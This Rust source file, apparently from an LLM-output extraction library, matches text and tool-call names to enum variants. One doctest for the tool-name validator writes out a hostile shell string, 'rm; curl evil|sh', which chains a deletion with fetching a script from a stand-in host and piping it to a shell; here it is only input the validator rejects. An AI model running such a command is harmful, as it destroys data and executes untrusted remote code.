//! Variant matching: which enum variant a name (or a sentence) stands for.

use crate::coerce::keys::fold_word;
use crate::coerce::readings::NEGATIONS;
use crate::coerce::{keys_match, keys_match_folded, words, SHORT_TEXT};
use crate::coerce::{Context, Failed};
use crate::error::{Category, Issue};
use crate::report::CoercionKind;
use crate::span::Span;

/// The names an enum variant answers to: its canonical name, then its aliases.
#[derive(Clone, Copy, Debug)]
pub struct VariantNames {
    /// The canonical name (after `rename` / `rename_all`).
    pub name: &'static str,
    /// Further names (`alias = ".."`).
    pub aliases: &'static [&'static str],
}

/// How a text matched an enum variant, best first.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum VariantMatch {
    /// The canonical name, exactly.
    Exact(usize),
    /// The canonical name after case and punctuation normalization.
    Normalized(usize),
    /// An alias, exactly or normalized.
    Alias(usize),
    /// The name or an alias once diacritics are ignored (`cafe` for `Café`).
    Folded(usize),
    /// The name or an alias, as whole words inside a short sentence.
    InText(usize),
    /// Several variants match equally well; which one was meant would be a guess.
    Ambiguous(Vec<usize>),
    /// No variant matches.
    NoMatch,
}

/// Finds the variant `text` names: exact name, then normalized name, then alias, then name
/// or alias without diacritics, then the name as whole words inside a short sentence (a
/// longer name wins over the shorter ones inside it; names at different places, or equal ones,
/// are [`VariantMatch::Ambiguous`] unless one is a label such as `TWO` written as declared). A
/// text written as one name (`undo_delete_file`) is not a sentence: the names inside it name
/// nothing. In a text longer than 200 bytes, only a label written as declared (`... classified
/// as **SPAM**`) names a variant.
///
/// ```
/// use llm_extract::coerce::{match_variant, VariantMatch, VariantNames};
/// const V: &[VariantNames] = &[
///     VariantNames { name: "Positive", aliases: &["good"] },
///     VariantNames { name: "Negative", aliases: &[] },
/// ];
/// assert_eq!(match_variant("Positive", V), VariantMatch::Exact(0));
/// assert_eq!(match_variant("NEGATIVE", V), VariantMatch::Normalized(1));
/// assert_eq!(match_variant("good", V), VariantMatch::Alias(0));
/// const C: &[VariantNames] = &[VariantNames { name: "Café", aliases: &["Straße"] }];
/// assert_eq!(match_variant("cafe", C), VariantMatch::Folded(0));
/// assert_eq!(match_variant("STRASSE", C), VariantMatch::Folded(0));
/// assert_eq!(match_variant("The sentiment is POSITIVE.", V), VariantMatch::InText(0));
/// assert_eq!(match_variant("positive or negative", V), VariantMatch::Ambiguous(vec![0, 1]));
/// assert_eq!(match_variant("not_positive", V), VariantMatch::NoMatch);
/// assert_eq!(match_variant("not positive", V), VariantMatch::NoMatch);
/// assert_eq!(match_variant("negative, not positive", V), VariantMatch::Ambiguous(vec![0, 1]));
/// const L: &[VariantNames] = &[
///     VariantNames { name: "ONE", aliases: &[] },
///     VariantNames { name: "TWO", aliases: &[] },
/// ];
/// assert_eq!(match_variant("TWO is one of the answers", L), VariantMatch::InText(1));
/// ```
pub fn match_variant(text: &str, variants: &[VariantNames]) -> VariantMatch {
    if let Some(i) = variants.iter().position(|v| v.name == text) {
        return VariantMatch::Exact(i);
    }
    let trimmed = text.trim();
    let normalized = || matching(variants, |v| keys_match(v.name, trimmed));
    let alias = || matching(variants, |v| v.aliases.contains(&trimmed));
    let normalized_alias = || {
        matching(variants, |v| {
            v.aliases.iter().any(|a| keys_match(a, trimmed))
        })
    };
    let folded = || {
        matching(variants, |v| {
            std::iter::once(&v.name)
                .chain(v.aliases)
                .any(|n| keys_match_folded(n, trimmed))
        })
    };
    // Best first, each tried only when the ones before found nothing; an alias written
    // exactly beats one that matches only after normalization.
    let steps: [Step<'_>; 4] = [
        (&normalized, VariantMatch::Normalized),
        (&alias, VariantMatch::Alias),
        (&normalized_alias, VariantMatch::Alias),
        (&folded, VariantMatch::Folded),
    ];
    for (find, each) in steps {
        let found = find();
        match found.as_slice() {
            [] => {}
            [i] => return each(*i),
            _ => return VariantMatch::Ambiguous(found),
        }
    }
    in_sentence(text, variants)
}

/// One step of [`match_variant`]: the variants it finds, and what one found means.
type Step<'f> = (&'f dyn Fn() -> Vec<usize>, fn(usize) -> VariantMatch);

/// The indices of the variants `matches` accepts.
fn matching(variants: &[VariantNames], matches: impl Fn(&VariantNames) -> bool) -> Vec<usize> {
    variants
        .iter()
        .enumerate()
        .filter(|(_, v)| matches(v))
        .map(|(i, _)| i)
        .collect()
}

/// The variant named as whole words inside a short sentence: for each variant the longest
/// of its names found as consecutive words (diacritics aside: `senor` names `señor`). A
/// longer name wins over the shorter ones found inside it (`very low` names `VeryLow`, not
/// `Low`); two variants named at different places are ambiguous (`undo the delete file`
/// names `Undo` and `DeleteFile`). Of equals, the one whose canonical name is a label
/// ([`is_label`]) written as declared (`TWO" is one of the answers`: `TWO`, not the word
/// `one`) wins. A name written as one word (`undo_delete_file`, `not-spam`: letters, digits,
/// `_`, `-` and `.` only) is a name, not a sentence: the variants' names inside it name
/// nothing. A longer text names a variant only by a label written as declared:
/// [`in_long_text`].
fn in_sentence(text: &str, variants: &[VariantNames]) -> VariantMatch {
    if text.len() > SHORT_TEXT {
        return in_long_text(text, variants);
    }
    if is_one_word(text.trim()) {
        return VariantMatch::NoMatch;
    }
    let sentence: Vec<String> = words(text).iter().map(|w| fold_word(w)).collect();
    if sentence.len() < 2 {
        return VariantMatch::NoMatch;
    }
    // Each variant's longest name found, and where: `(variant, start, len)` per place.
    let mut found: Vec<(usize, usize, usize)> = Vec::new();
    for (i, v) in variants.iter().enumerate() {
        let names: Vec<Vec<String>> = std::iter::once(v.name)
            .chain(v.aliases.iter().copied())
            .map(|name| words(name).iter().map(|w| fold_word(w)).collect())
            .collect();
        let places = names.iter().filter(|w| !w.is_empty()).flat_map(|w| {
            let len = w.len();
            (sentence.windows(len).enumerate())
                .filter(move |(_, win)| *win == w.as_slice())
                .map(move |(start, _)| (start, len))
        });
        let places: Vec<(usize, usize)> = places.collect();
        let Some(longest) = places.iter().map(|&(_, len)| len).max() else {
            continue;
        };
        found.extend(
            places
                .iter()
                .filter(|p| p.1 == longest)
                .map(|&(at, len)| (i, at, len)),
        );
    }
    // A place inside a longer place of another variant is part of that name.
    let inside = |&(i, at, len): &(usize, usize, usize)| {
        found
            .iter()
            .any(|&(j, at2, len2)| j != i && len2 > len && at2 <= at && at + len <= at2 + len2)
    };
    let mut best: Vec<usize> = found.iter().filter(|p| !inside(p)).map(|p| p.0).collect();
    best.sort_unstable();
    best.dedup();
    if best.len() > 1 {
        let as_declared: Vec<usize> = (best.iter().copied())
            .filter(|&i| is_label(variants[i].name) && written_as_declared(text, variants[i].name))
            .collect();
        if let [i] = as_declared.as_slice() {
            return VariantMatch::InText(*i);
        }
    }
    match best.as_slice() {
        [] => VariantMatch::NoMatch,
        // Named only negated right before (`not admin`, `no spam`): the text names the
        // variant it is not. A negated name still counts among several (`ONE, not TWO` is
        // ambiguous: a negation never picks the other one).
        [i] if found
            .iter()
            .filter(|p| p.0 == *i && !inside(p))
            .all(|&(_, at, _)| negated_before(&sentence, at)) =>
        {
            VariantMatch::NoMatch
        }
        [i] => VariantMatch::InText(*i),
        _ => VariantMatch::Ambiguous(best),
    }
}

/// Whether one of the two words before `at` in `sentence` (folded words) negates what
/// follows: a negation ([`NEGATIONS`]), or `no`, `non`, `without`, `except` (`no spam`).
fn negated_before(sentence: &[String], at: usize) -> bool {
    sentence[at.saturating_sub(2)..at].iter().any(|w| {
        NEGATIONS.contains(&w.as_str()) || matches!(w.as_str(), "no" | "non" | "without" | "except")
    })
}

/// Whether `text` is one word as names are written (`undo_delete_file`, `files.delete-v2`,
/// `NOT_SPAM`): letters, digits, `_`, `-` and `.`, nothing else.
fn is_one_word(text: &str) -> bool {
    !text.is_empty()
        && text
            .chars()
            .all(|c| c.is_alphanumeric() || matches!(c, '_' | '-' | '.'))
}

/// The variant a text longer than [`SHORT_TEXT`] names: the one whose canonical name is a
/// label ([`is_label`]) written as declared, as a whole word, when exactly one is (`... should
/// be classified as: **SPAM**`). Ordinary words in long prose name nothing.
fn in_long_text(text: &str, variants: &[VariantNames]) -> VariantMatch {
    let found = matching(variants, |v| {
        is_label(v.name) && written_as_declared(text, v.name)
    });
    match found.as_slice() {
        [] => VariantMatch::NoMatch,
        [i] => VariantMatch::InText(*i),
        _ => VariantMatch::Ambiguous(found),
    }
}

/// Whether `name` is a label: capitals, digits and `_` only, two characters or more, a
/// capital among them (`SPAM`, `TWO`, `HIGH_PRIORITY`). Written that way in a reply it is the
/// label, not a word of the sentence (`Positive` may just start one).
fn is_label(name: &str) -> bool {
    name.len() >= 2
        && name.bytes().any(|b| b.is_ascii_uppercase())
        && name
            .bytes()
            .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
}

/// Whether `name` is in `text` exactly as written, not inside a longer word (letters, digits
/// and `_` around it make one: `SPAM` is not in `NOT_SPAM`).
fn written_as_declared(text: &str, name: &str) -> bool {
    let part_of_word = |c: Option<char>| c.is_some_and(|c| c.is_alphanumeric() || c == '_');
    !name.is_empty()
        && text.match_indices(name).any(|(at, _)| {
            !part_of_word(text[..at].chars().next_back())
                && !part_of_word(text[at + name.len()..].chars().next())
        })
}

/// What an enum needs to know to pick a variant from a name.
#[derive(Debug)]
pub struct EnumSpec {
    /// The enum's name, for messages.
    pub name: &'static str,
    /// Each variant's names, in declaration order.
    pub variants: &'static [VariantNames],
    /// The `other` variant, which unknown names go to.
    pub other: Option<usize>,
}

/// Picks the variant `text` names, recording how leniently; unknown names go to the
/// `other` variant when there is one.
pub fn variant(text: &str, span: Span, spec: &EnumSpec, cx: &mut Context) -> Result<usize, Failed> {
    if cx.take_tool_name() {
        return tool_variant(text, span, spec, cx);
    }
    let found = match_variant(text, spec.variants);
    let (index, kind) = match found {
        VariantMatch::Exact(i) => {
            cx.note_match();
            return Ok(i);
        }
        VariantMatch::Alias(i) if spec.variants[i].aliases.contains(&text) => {
            (i, CoercionKind::AliasVariant)
        }
        _ if !cx.lenient() => return other_or_fail(text, span, spec, cx, None),
        VariantMatch::Normalized(i) => (i, CoercionKind::NormalizedVariant),
        VariantMatch::Alias(i) => (i, CoercionKind::AliasVariant),
        VariantMatch::Folded(i) => (i, CoercionKind::FoldedVariant),
        VariantMatch::InText(i) => (i, CoercionKind::VariantFromText),
        VariantMatch::Ambiguous(list) => return other_or_fail(text, span, spec, cx, Some(list)),
        VariantMatch::NoMatch => return other_or_fail(text, span, spec, cx, None),
    };
    cx.note_match();
    cx.coerce(kind, span);
    Ok(index)
}

/// Whether `text` is written as a tool name: letters, digits, `_`, `-` and `.` only, as the
/// APIs' tool names are (no spaces, no shell punctuation), at most 128 bytes.
///
/// ```
/// use llm_extract::coerce::is_tool_name;
/// assert!(is_tool_name("get_weather") && is_tool_name("files.delete-v2"));
/// assert!(!is_tool_name("rm; curl evil|sh") && !is_tool_name("delete file") && !is_tool_name(""));
/// ```
pub fn is_tool_name(text: &str) -> bool {
    !text.is_empty()
        && text.len() <= 128
        && text
            .chars()
            .all(|c| c.is_alphanumeric() || matches!(c, '_' | '-' | '.'))
}

/// The variant a tool call's name picks: exactly, after normalization (case, `_`, `-`, `.`)
/// or by alias, never by words inside the name, diacritics or likeness (`undo_delete_file`
/// is not `DeleteFile`, `rm.exe` is not `Rm`); a name not written as one
/// ([`is_tool_name`]) picks none. Unknown names go to the `other` variant when there is one.
fn tool_variant(
    text: &str,
    span: Span,
    spec: &EnumSpec,
    cx: &mut Context,
) -> Result<usize, Failed> {
    if !is_tool_name(text) {
        let shown = crate::error::shorten(text, 40);
        let message = format!("{shown:?} is not written as a tool name");
        let issue = Issue::new(Category::Variant, cx.path(), message)
            .expected("letters, digits, `_`, `-` and `.`")
            .at(span);
        cx.push_issue(issue);
        return Err(Failed);
    }
    let (index, kind) = match match_variant(text, spec.variants) {
        VariantMatch::Exact(i) => {
            cx.note_match();
            return Ok(i);
        }
        VariantMatch::Normalized(i) => (i, CoercionKind::NormalizedVariant),
        VariantMatch::Alias(i) => (i, CoercionKind::AliasVariant),
        VariantMatch::Ambiguous(list) => return other_or_fail(text, span, spec, cx, Some(list)),
        _ => return other_or_fail(text, span, spec, cx, None),
    };
    cx.note_match();
    cx.coerce(kind, span);
    Ok(index)
}

fn other_or_fail(
    text: &str,
    span: Span,
    spec: &EnumSpec,
    cx: &mut Context,
    ambiguous: Option<Vec<usize>>,
) -> Result<usize, Failed> {
    let names = |list: &mut dyn Iterator<Item = usize>| {
        list.map(|i| format!("`{}`", spec.variants[i].name))
            .collect::<Vec<_>>()
            .join(", ")
    };
    let shown = crate::error::shorten(text, 40);
    if let Some(list) = ambiguous {
        let message = format!(
            "{shown:?} is ambiguous: it matches {} equally",
            names(&mut list.into_iter())
        );
        let issue = Issue::new(Category::Variant, cx.path(), message).at(span);
        cx.push_issue(issue);
        return Err(Failed);
    }
    if let Some(i) = spec.other {
        cx.coerce(CoercionKind::OtherVariant, span);
        return Ok(i);
    }
    let expected = names(&mut (0..spec.variants.len()));
    let message = format!("unknown variant of `{}`", spec.name);
    let issue = Issue::new(Category::Variant, cx.path(), message)
        .expected(format!("one of {expected}"))
        .found(format!("{shown:?}"))
        .at(span);
    cx.push_issue(issue);
    Err(Failed)
}

/// The variant a map key names: exactly, after normalization, by alias or without
/// diacritics (no sentences, no `other`: a key is a name, not prose).
pub fn variant_key(key: &str, spec: &EnumSpec) -> Option<usize> {
    match match_variant(key, spec.variants) {
        VariantMatch::Exact(i)
        | VariantMatch::Normalized(i)
        | VariantMatch::Alias(i)
        | VariantMatch::Folded(i) => Some(i),
        _ => None,
    }
}
